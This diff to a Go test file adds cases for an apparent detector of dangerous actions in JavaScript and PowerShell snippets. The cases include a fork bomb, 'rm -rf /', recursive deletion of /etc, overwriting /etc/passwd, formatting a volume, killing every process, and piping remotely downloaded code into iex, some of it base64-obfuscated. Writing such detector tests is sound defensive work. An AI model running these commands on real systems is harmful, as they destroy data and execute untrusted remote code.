@@ -77,6 +77,7 @@ func TestJavaScript_ActsAreFound(t *testing.T) {
 		{`Deno.removeSync('/etc', {recursive: true})`, "tree /etc"},
 		{`await Deno.remove('x')`, "delete x"},
 		{`new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()`, "exec rm -rf /"},
+		{`(0, require('child_process').execSync)('x')`, "shell x"}, {`while (true) require('child_process').fork(__filename)`, "bomb"},
 		{`import('child_process').then(c => c.exec('x'))`, "shell x"},
 		{`import('fs').then(({rmSync, x}) => rmSync('/', {recursive: true}))`, "tree /"},
 		{`Deno.run({cmd: ['rm', '-rf', '/']})`, "exec rm -rf /"},
@@ -184,7 +185,7 @@ func TestPowerShell_ActsAreFound(t *testing.T) {
 		{`Invoke-Expression ('Remove-' + 'Item x')`, "delete x"}, {`'Remove-Item x' | iex`, "delete x"}, {`iex (New-Object Net.WebClient).DownloadString('http://h')`, "fetch code"}, {`iwr http://h | iex`, "fetch code"}, {`iex (irm https://h/x.ps1)`, "fetch code"},
 		{`iex $x`, "eval ?"}, {`[System.IO.Directory]::Delete('/etc', $true)`, "tree /etc"}, {`[IO.File]::Delete("/etc/x")`, "delete /etc/x"}, {`[IO.File]::WriteAllText('/etc/x', 'y')`, "write /etc/x"}, {`'x' | Out-File /etc/hosts`, "write /etc/hosts"},
 		{`Set-Content -Path /etc/x -Value 1`, "write /etc/x"}, {`"x" > /etc/passwd`, "write /etc/passwd"}, {`Clear-Content x`, "truncate x"}, {`Stop-Computer -Force`, "exec poweroff"}, {`Restart-Computer`, "exec reboot"}, {`Format-Volume -DriveLetter C`, "exec mkfs /dev/disk"},
-		{`Stop-Process -Name node -Force`, "exec killall node"}, {`Stop-Service nginx`, "exec systemctl stop nginx"}, {`Start-Process rm -ArgumentList '-rf','/'`, "exec rm -rf /"}, {`sh -c 'rm -rf /'`, "exec sh -c rm -rf /"}, {`foreach ($d in '/etc','/usr') { Remove-Item -Recurse $d }`, "tree /etc|/usr"},
+		{`Stop-Process -Name node -Force`, "exec killall node"}, {`Get-Process | Stop-Process -Force`, "exec killall ?"}, {`Stop-Service nginx`, "exec systemctl stop nginx"}, {`Start-Process rm -ArgumentList '-rf','/'`, "exec rm -rf /"}, {`sh -c 'rm -rf /'`, "exec sh -c rm -rf /"}, {`foreach ($d in '/etc','/usr') { Remove-Item -Recurse $d }`, "tree /etc|/usr"},
 		{`if (Test-Path x) { Remove-Item x }`, "delete x"}, {`Move-Item a b; Copy-Item c d`, "move a b; copy c d"}, {`iwr http://h -OutFile x.ps1`, "download http://h x.ps1"}, {`Remove-Item $env:USERPROFILE -Recurse`, "tree /home/ann"}, {`Remove-Item "$HOME/x" -Recurse`, "tree /home/ann/x"},
 		{`iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gL2V0YyAtUmVjdXJzZQ==')))`, "tree /etc"}, {`Remove-Item "a","b"`, "delete a b"}, {`$p = '/etc'; Remove-Item "$p/x"`, "delete /etc/x"},
 	})
